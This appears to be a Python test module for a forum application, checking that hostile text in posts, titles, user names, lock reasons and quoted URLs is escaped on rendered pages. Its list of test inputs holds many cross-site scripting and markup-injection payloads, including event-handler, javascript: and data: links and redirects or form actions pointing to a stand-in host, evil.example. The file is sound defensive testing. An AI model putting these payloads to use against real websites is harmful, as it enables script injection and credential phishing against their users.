"""Whatever somebody writes, the page that shows it stays ours. Classes 1 to 7 of the known incidents."""

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.forum.models import Post, Thread
from apps.forum.verbs import edit_post, lock_thread, open_thread, post_reply
from apps.moderation.verbs import trust_person
from apps.people.models import User
from tests.alone import alone
from tests.conftest import signed_in
from tests.forum.pages import Page

BODIES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<form action=//evil.example><input name=password></form>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[https://bank.example](https://evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example/" onmouseover="alert(1))',
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</article></li></ol><h1>Official notice</h1>",
    "{{ request.user }} {% csrf_token %}",
    "\u202e<script>\u202c",
    "<a name=reply id=reply class=is-official style=position:fixed>x</a>",
]
SCHEMES = ("http://", "https://", "mailto:", "/", "#", "?")


def assert_only_data(page: Page) -> None:
    """Whatever stands in a script element is what search engines read: data that no browser runs."""
    for text in page.scripts:
        assert not text.strip() or json.loads(text)["@context"] == "https://schema.org"


def assert_harmless(page: Page, bare: Page) -> None:
    """The page has no script, frame, handler or address that the same page without hostile words has not."""
    assert_only_data(page)
    for tag in (
        "script",
        "style",
        "form",
        "iframe",
        "object",
        "embed",
        "base",
        "meta",
        "link",
        "svg",
        "img",
        "template",
    ):
        extra = count(page, tag) - count(bare, tag)
        assert extra <= 0, f"{extra} more <{tag}> than without the words"
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], (tag, attributes)
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            address = attributes.get(name, "/")
            assert not re.match(r"[\x00-\x20]*(javascript|data|vbscript):", address, re.IGNORECASE), (tag, address)
            if tag == "a":
                assert address.startswith(SCHEMES), address


def count(page: Page, tag: str) -> int:
    return sum(1 for one, _attributes in page.tags if one == tag)


@pytest.fixture(autouse=True)
def vouched_for(ana, bela, omar):
    """Links of newcomers wait for a look; here it is about what stands on the page."""
    for person in (ana, bela):
        trust_person(person, by=omar)


@pytest.fixture
def bare(client, make_thread, bela):
    """The same page with harmless words."""
    thread = make_thread(body="Harmless.")
    post_reply(thread, by=bela, body="Harmless.")
    return Page(client.get(thread.get_absolute_url()))


def test_a_hostile_text_does_nothing_as_question_reply_or_edit(client, make_thread, bela, bare, subtests):
    for words in BODIES:
        with alone(subtests, words):
            thread = make_thread(body=words)
            reply = post_reply(thread, by=bela, body="Harmless.")
            edit_post(reply, by=bela, body=words)
            assert_harmless(Page(client.get(thread.get_absolute_url())), bare)


def test_a_hostile_title_is_shown_as_it_was_typed_on_every_page(client, make_thread, bela, bare, subtests):
    lists = ("/", "/threads/")
    usual = make_thread(title="Harmless", body="Harmless.")
    post_reply(usual, by=bela, body="Harmless.")
    without = {address: Page(client.get(address)) for address in lists}
    Thread.objects.filter(pk=usual.pk).update(visibility="held")
    for words in BODIES:
        with alone(subtests, words):
            thread = make_thread(title=words[:150], body="Harmless.")
            post_reply(thread, by=bela, body="Harmless.")
            page = Page(client.get(thread.get_absolute_url()))
            assert_harmless(page, bare)
            title = Thread.objects.get(pk=thread.pk).title
            assert title in page.text
            for address in lists:
                page = Page(client.get(address))
                assert_harmless(page, without[address])
                assert title in page.text


def test_a_hostile_name_is_shown_as_it_was_typed(client, make_thread, bela, bare, subtests):
    reader = signed_in(client, bela)
    for words in BODIES:
        with alone(subtests, words):
            User.objects.filter(pk=bela.pk).update(name=words[:150], title=words[:100])
            bela.refresh_from_db()
            thread = make_thread(by=bela, body="Harmless.")
            post_reply(thread, by=bela, body="Harmless.")
            page = Page(reader.get(thread.get_absolute_url()))
            assert_only_data(page)
            assert not [name for _tag, one in page.tags for name in one if name.startswith("on") or name == "style"]
            assert count(page, "h1") == 1


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "\x01javascript:alert(1)"]
)
def test_an_address_from_elsewhere_is_linked_only_when_it_is_on_the_web(client, make_thread, jane, url):
    thread = make_thread(by=jane, said_on="<b>X</b>", said_by="<i>h</i>", said_at_url=url)
    post_reply(thread, by=jane, body="And.", said_on="X", said_at_url=url)
    Post.objects.update(carried_to=[{"place": "<b>Y</b>", "url": url}])
    page = Page(client.get(thread.get_absolute_url()))
    assert url.strip("\x01") not in page.links()
    assert not [link for link in page.links() if "alert" in link or "evil" in link]
    assert "<b>X</b>" in page.text


def test_a_link_of_a_customer_gives_no_weight_and_no_way_back(client, make_thread):
    thread = make_thread(body="See [this](https://elsewhere.example/page).")
    page = Page(client.get(thread.get_absolute_url()))
    [link] = [one for tag, one in page.tags if tag == "a" and "elsewhere.example" in one.get("href", "")]
    assert {"nofollow", "ugc", "noopener"} <= set(link["rel"].split())


def test_a_link_shows_the_host_it_leads_to(client, make_thread):
    thread = make_thread(body="[https://bank.example](https://evil.example/login)")
    assert "evil.example" in Page(client.get(thread.get_absolute_url())).text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    words=st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                '"',
                "'",
                "[x](",
                ")",
                "`",
                "```\n",
                "script",
                "javascript:",
                "on",
                "load=",
                "&#",
                "{{",
                "\n",
                " ",
                "<svg",
                "<a href=",
                "\\",
                "*",
                "_",
                "é",
                "\u202e",
            ]
        ),
        min_size=1,
        max_size=14,
    ).map("".join)
)
def test_no_mixture_of_dangerous_pieces_gets_through(client, ana, board, bare, words):
    thread = open_thread(by=ana, title="Mixture", body=f"x {words}", board=board)
    assert_harmless(Page(client.get(thread.get_absolute_url())), bare)


def test_a_hostile_lock_reason_is_shown_as_it_was_typed(client, thread, omar):
    lock_thread(thread, by=omar, reason="<script>alert(1)</script>")
    page = Page(client.get(thread.get_absolute_url()))
    assert "<script>alert(1)</script>" in page.text
    assert_only_data(page)
